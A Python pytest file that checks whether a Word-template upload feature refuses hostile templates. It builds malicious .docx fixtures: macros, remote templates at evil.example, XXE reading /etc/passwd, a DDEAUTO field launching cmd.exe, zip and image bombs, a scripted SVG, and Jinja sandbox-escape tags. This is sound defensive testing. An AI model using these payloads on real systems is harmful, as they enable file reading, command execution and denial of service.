"""Templates from an enemy: refused by name, nothing filled in, in bounded time and memory. No database is needed for that."""

import io
import json
import time
import zipfile
import zlib

import docx
import pytest

from gegma.kernel.sandbox import Refused
from gegma.reports.word_templates import child, fields, store
from gegma.reports.word_templates.tags import PlainEnvironment
from tests.reports.word_files import EMPTY_PNG, field, related, with_parts, word

BODY = "word/document.xml"
SHAPE = fields.PROGRESS_SHAPE
ACTIVITY = {"code": "1.1", "text": "ა" * 200}
CONTEXT = fields.filled_in({
    "title": "ანგარიში", "subtitle": "", "organisation": ["უწყება"], "period": {}, "made_on": "", "address": "", "plan": {"title": "", "columns": []},
    "activities": "1", "indicators": "1", "sentences": ["ა"] * 300, "statuses": [], "divisions": [], "evidence": [],
    "sections": [{"code": str(n), "title": "თავი", "activities": [{**ACTIVITY, "partners": [], "responsible": [], "steps": [], "indicators": []}] * 60} for n in range(60)],
}, SHAPE)  # fmt: skip
SAMPLE = store.Sample(SHAPE, CONTEXT, {})
HONEST = word("{{ title }}")


@pytest.fixture
def verdict(tmp_path):
    """The code with which a file is refused, or the first fault of its tags; it is not filled in either. Without a child, for speed."""

    def found(data: bytes) -> str:
        path = tmp_path / "template.docx"
        path.write_bytes(data)
        payload = {"path": str(path), "schema": SHAPE.plain(), "context": CONTEXT}
        with pytest.raises(Refused) as caught:
            child.fill(payload)
        try:
            return child.check(payload)["faults"][0]["code"]
        except Refused as refused:
            assert refused.code == caught.value.code
            return refused.code

    return found


@pytest.fixture
def short(monkeypatch):
    """Little time, so that the test takes little too."""
    monkeypatch.setattr(store, "CHECK", {"cpu_seconds": 3, "wall_seconds": 10})


def test_an_honest_one_passes():
    assert store.check(HONEST, SAMPLE).ok
    assert "ანგარიში" in docx.Document(io.BytesIO(store.filled(HONEST, SAMPLE))).paragraphs[0].text


# -- what the file brings along ----------------------------------------------------------------------------------------


def macro_types(data):
    return with_parts(data, put={"[Content_Types].xml": ("</Types>", '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')})


def bomb(megabytes: int, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(HONEST)) as source, zipfile.ZipFile(out, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        with target.open("word/media/image1.png", "w") as part:
            for _mb in range(megabytes):
                part.write(b"\0" * 1024 * 1024)
    return out.getvalue()


def huge_png() -> bytes:
    """A picture of 900 million dots in a few bytes."""
    body = b"IHDR" + (30000).to_bytes(4, "big") * 2 + b"\x08\x06\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + (13).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big") + b"\0\0\0\0IEND\xaeB`\x82"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REFUSED = {
    "macros": (lambda: with_parts(HONEST, {"word/vbaProject.bin": b"MZ"}), "macros"),
    "a macro file by its type": (lambda: macro_types(HONEST), "macros"),
    "an encrypted file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "an old Word file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "old_office"),
    "a remote template": (lambda: related(HONEST, "frame", "http://evil.example/a.dotm"), "template_external"),
    "a linked picture": (lambda: related(HONEST, "image", "http://evil.example/a.png"), "template_external"),
    "a link to a share": (lambda: related(HONEST, "hyperlink", "file://evil/share/a.docx"), "template_external"),
    "a remote sheet of styles": (lambda: related(HONEST, "stylesheet", "http://evil.example/a.css"), "template_external"),
    "another document to be put in": (lambda: related(HONEST, "aFChunk", "afchunk.html", outside=False, parts={"word/afchunk.html": b"<html>"}), "template_embedded"),
    "altChunk": (lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", '<w:altChunk r:id="rIdX"/>')}), "template_embedded"),
    "an embedded object": (lambda: related(HONEST, "oleObject", "embeddings/oleObject1.bin", outside=False, parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "template_embedded"),
    "an embedded workbook": (lambda: with_parts(HONEST, {"word/embeddings/a.xlsx": b"PK"}), "template_embedded"),
    "an object element": (lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", "<w:p><w:r><w:object/></w:r></w:p>")}), "template_embedded"),
    "a control": (lambda: with_parts(HONEST, {"word/activeX/activeX1.xml": b"<a/>"}), "template_embedded"),
    "a picture of 100 MB": (lambda: bomb(100, zipfile.ZIP_STORED), "template_size"),
    "a picture of 100 MB in 100 KB": (lambda: bomb(100), "zip_ratio"),
    "a picture of 900 million dots": (lambda: with_parts(HONEST, {"word/media/image1.png": huge_png()}), "template_picture_size"),
    "an SVG with a script": (lambda: with_parts(HONEST, {"word/media/image1.svg": SVG}), "template_picture"),
    "an SVG under another name": (lambda: with_parts(HONEST, {"word/media/image1.png": SVG}), "template_picture"),
    "what is no picture": (lambda: with_parts(HONEST, {"word/media/image1.emf": b"\x01\0\0\0" + b"\0" * 100}), "template_picture_kind"),
    "external entities": (lambda: with_parts(HONEST, put={BODY: ("<w:document", XXE)}), "xml_dtd"),
    "external entities in UTF-16": (lambda: with_parts(HONEST, {"word/header9.xml": (XXE + "<a/>").encode("utf-16")}), "xml_dtd"),
    "DDE": (lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))}), "template_field"),
    "INCLUDETEXT": (lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'))}), "template_field"),
    "INCLUDEPICTURE in a simple field": (
        lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil/a.png&quot; "/></w:p>')}), "template_field"),
    "MACROBUTTON": (lambda: with_parts(HONEST, put={BODY: ("<w:sectPr", field("MACROBUTTON AutoOpen x"))}), "template_field"),
    "no zip at all": (lambda: b"{{ title }}", "template_kind"),
    "a workbook": (lambda: with_parts(HONEST, {"mimetype": b"application/vnd.oasis.opendocument.text"}), "opendocument"),
    "a cut file": (lambda: HONEST[: len(HONEST) // 2], "zip_broken"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_a_file_brings_along_is_refused_by_name(verdict, name):
    build, code = REFUSED[name]
    assert verdict(build()) == code


def test_the_template_that_a_document_was_begun_from_is_left_out():
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    rels = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{kinds}attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    data = with_parts(
        HONEST, {"word/_rels/settings.xml.rels": rels.encode()},
        put={"word/settings.xml": ("<w:zoom", f'<w:attachedTemplate xmlns:r="{kinds[:-1]}" r:id="rId1"/>')},
    )  # fmt: skip
    found = store.check(data, SAMPLE)
    assert found.ok and found.notes == ["attached_template"]
    with zipfile.ZipFile(io.BytesIO(store.filled(data, SAMPLE))) as made:
        assert not any(b"evil.example" in made.read(name) or b"attachedTemplate" in made.read(name) for name in made.namelist())


def test_a_picture_and_links_of_the_text_are_welcome():
    data = related(with_parts(HONEST, {"word/media/image1.png": EMPTY_PNG}), "hyperlink", "https://mia.gov.ge/")
    found = store.check(data, SAMPLE)
    assert found.ok, found


# -- what the tags try -------------------------------------------------------------------------------------------------

TAGS = {
    "{{ title.__class__ }}": "field_unknown",
    "{{ title.__class__.__mro__[1].__subclasses__() }}": "tag_forbidden",
    "{{ title['__class__'] }}": "field_unknown",
    "{{ sections.append(1) }}": "tag_forbidden",
    "{{ title.delete() }}": "tag_forbidden",
    "{{ 'x' * 10 ** 9 }}": "tag_forbidden",
    "{{ 9 ** 9 ** 9 }}": "tag_forbidden",
    "{{ range(10) }}": "tag_forbidden",
    "{{ lipsum(n=1000) }}": "tag_forbidden",
    "{{ cycler('a').__init__.__globals__ }}": "tag_forbidden",
    "{{ joiner() }}": "tag_forbidden",
    "{{ namespace(a=1) }}": "tag_forbidden",
    "{{ self._TemplateReference__context }}": "field_unknown",
    "{{ title|attr('__class__') }}": "filter_unknown",
    "{{ title|safe }}": "filter_unknown",
    "{{ title|map('upper') }}": "filter_unknown",
    "{{ '%1000000000s'|format(title) }}": "filter_unknown",
    "{{ [1, 2] }}": "tag_forbidden",
    "{{ {'a': 1} }}": "tag_forbidden",
    "{{ title[0:5] }}": "tag_forbidden",
    "{% set x = 1 %}": "tag_unknown",
    "{% macro a() %}{% endmacro %}": "tag_unknown",
    "{% include '/etc/passwd' %}": "tag_unknown",
    "{% import 'os' as os %}": "tag_unknown",
    "{% extends 'a' %}": "tag_unknown",
    "{% raw %}{{ x }}{% endraw %}": "tag_unknown",
    "{{r title }}": "tag_unknown",
    "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}": "loop_odd",
    "{% for a in 'abc' %}x{% endfor %}": "loop_odd",
    "{% for a in title %}x{% endfor %}": "loop_no_list",
    "{% for a, b in sections %}x{% endfor %}": "loop_odd",
    "{{ loop.__init__ }}": "field_unknown",
}


@pytest.mark.parametrize("tag", TAGS)
def test_what_tags_may_not_do(verdict, tag):
    assert verdict(word("x", tag)) == TAGS[tag]


def test_even_past_the_checks_nothing_can_be_called_or_reached():
    environment = PlainEnvironment()
    for tag in ("title.__class__", "title.upper", "sections.append", "sections.__len__", "title['format']", "nothing"):
        with pytest.raises(Exception, match="undefined|no attribute|no element"):
            environment.from_string("{{ " + tag + " }}").render(CONTEXT)
    assert environment.globals == {}
    assert environment.from_string("{{ title }}").render(title="<w:p/>&") == "&lt;w:p/&gt;&amp;"


def test_loops_over_what_is_there_are_stopped_by_the_clock(short):
    loops = "".join(f"{{% for {one} in sentences %}}" for one in "abcde")
    began = time.monotonic()
    found = store.check(word(loops + "{{ title }}" + "{% endfor %}" * 5), SAMPLE)
    assert found.refused is not None and found.refused.code in ("too_slow", "too_big", "crashed")
    assert time.monotonic() - began < 15


def test_loops_stand_in_one_another_only_so_deeply(verdict):
    opening = "".join(f"{{% for {one} in sentences %}}" for one in "abcdef")
    assert verdict(word(opening + "x" + "{% endfor %}" * 6)) == "loop_deep"


def test_a_child_looks_at_what_was_uploaded():
    found = store.check(bomb(100), SAMPLE)
    assert found.refused is not None and found.refused.code == "zip_ratio"
    with pytest.raises(Refused) as caught:
        store.filled(word("{{ title.__class__ }}"), SAMPLE)
    assert caught.value.code == "field_unknown"


def test_a_result_that_grows_too_large_is_refused(short):
    data = word("{% for a in sentences %}{% for b in sentences %}{% for c in organisation %}{{ title }}" + "x" * 1500 + "{% endfor %}{% endfor %}{% endfor %}")
    found = store.check(data, SAMPLE)
    assert not found.ok and (found.refused.code if found.refused else found.faults[0]["code"]) in ("made_too_large", "too_big", "too_slow")


def test_tags_where_no_text_is_seen_are_found(verdict):
    hidden = '<w:p><w:pPr><w:pStyle w:val="{{ title.__class__ }}"/></w:pPr></w:p>'
    assert verdict(with_parts(HONEST, put={BODY: ("<w:sectPr", hidden)})) == "field_unknown"
    assert verdict(with_parts(HONEST, put={BODY: ("<w:sectPr", field("PAGE {{ range(9) }}"))})) == "tag_hidden"
    split = "<w:p><w:r><w:t>{</w:t></w:r><w:r><w:instrText>{ range(9) }}</w:instrText></w:r></w:p>"
    assert verdict(with_parts(HONEST, put={BODY: ("<w:sectPr", split)})) in ("template_field", "tag_forbidden", "tag_close")


def test_words_of_records_are_words_and_never_tags_or_markup():
    nasty = "{{ 7 * 7 }} {% for %} <w:br/> & ' \" \x07 \x0c"
    sample = store.Sample(SHAPE, {**CONTEXT, "title": nasty, "sections": []}, {"title": nasty.replace("\x07", " ").replace("\x0c", " ")})
    made = docx.Document(io.BytesIO(store.filled(word("{{ title }}"), sample)))
    said = " ".join(p.text for p in made.paragraphs)
    assert "{{ 7 * 7 }}" in said and "49" not in said and "<w:br/>" in said


def test_the_context_is_plain_data():
    assert json.loads(json.dumps(CONTEXT)) == CONTEXT
